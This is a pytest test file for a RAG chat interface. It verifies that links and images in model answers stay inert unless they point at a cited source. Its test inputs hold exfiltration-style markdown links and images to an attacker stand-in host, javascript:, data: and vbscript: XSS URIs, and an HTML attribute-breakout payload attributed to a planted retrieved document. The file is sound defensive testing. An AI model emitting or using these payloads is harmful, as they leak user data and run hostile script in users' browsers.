"""Links and images in model output are rendered inert unless they point at a cited source's URL."""

from __future__ import annotations

import re

import pytest

from rag.answer import Answer
from rag.storage.records import Hit
from testkit.answers import citation
from tests.reliability.conftest import assert_inert
from webui.render import render_answer, render_sources

CITED = "https://example.org/statement"
RETRIEVED_NOT_CITED = "https://example.org/other"
QUOTE = "Japan pledged 600 billion yen."


UNCITED_HIT = Hit.from_dict(dict(
    rank=2, chunk_id="o.md#0", doc_id="o.md", title="Other", url=RETRIEVED_NOT_CITED, date="2024", section="",
    page=None, text="Other text.", start=0, end=11, countries=[], score=0.1,
))  # fmt: skip


def rendered(text: str, url: str = CITED) -> str:
    """The chat HTML for an answer citing [1] at `url` (and retrieving, not citing, another source)."""
    return render_answer(Answer(question="q", text=text, citations=[citation(QUOTE, url=url)], retrieved=[UNCITED_HIT],
                                   abstained=False), 1)  # fmt: skip


def links(fragment: str) -> list[str]:
    """The href of every link, the citation anchors aside."""
    return [h for h in re.findall(r'href="([^"]*)"', fragment) if not h.startswith("#")]


@pytest.mark.parametrize(
    "text",
    [
        f"See [the statement]({RETRIEVED_NOT_CITED}) [1].",  # a real source, but not one this answer cites
        "See [the registry](http://attacker.example/?q=secret) [1].",
        "See ![chart](http://attacker.example/p.png?q=secret) [1].",
        "See [x][ref] [1].\n\n[ref]: http://attacker.example/",  # reference-style link
        "See <http://attacker.example/> [1].",  # autolink
        '<a href="http://attacker.example/">here</a> [1].',
        f"See [it]({CITED}.attacker.example/) [1].",  # the cited URL as a prefix
        f"See [it]({CITED}@attacker.example) [1].",
        f"See [it](https://attacker.example/?u={CITED}) [1].",
        "See [x](javascript:alert(1)) [1].",
        "See [x](jav&#x61;script:alert(1)) [1].",
        "See [x](data:text/html;base64,PHNjcmlwdD4=) [1].",
        "See [x](vbscript:msgbox(1)) [1].",
        "See [x](//attacker.example/) [1].",
        "See http://attacker.example/collect?q=secret now [1].",
    ],
)
def test_links_and_images_to_anything_but_a_cited_source_are_inert(text: str) -> None:
    html = rendered(text)

    assert links(html) == []
    assert "<img" not in html
    assert_inert(html, {CITED})


@pytest.mark.parametrize(
    "text",
    [
        f"See [the statement]({CITED}) [1].",
        f"See {CITED} [1].",
        f"See ![the statement]({CITED}) [1].",  # an image of a cited URL becomes a plain link, never an <img>
    ],
)
def test_a_link_to_a_cited_source_stays_a_link_that_opens_safely(text: str) -> None:
    html = rendered(text)

    assert links(html) == [CITED]
    assert 'target="_blank" rel="noopener noreferrer"' in html
    assert "<img" not in html


def test_a_planted_source_url_cannot_break_out_of_its_attribute() -> None:
    url = 'https://example.org/x"onmouseover="alert(1)'  # front matter is attacker-controlled in a planted document

    html = rendered(f"See {url} [1].", url=url) + render_sources(
        Answer(
            question="q", text="Japan pledged [1].", citations=[citation(QUOTE, url=url)], retrieved=[], abstained=False
        ),
        1,
    )

    assert_inert(html, {url})  # no onmouseover attribute: the quote stayed inside the href
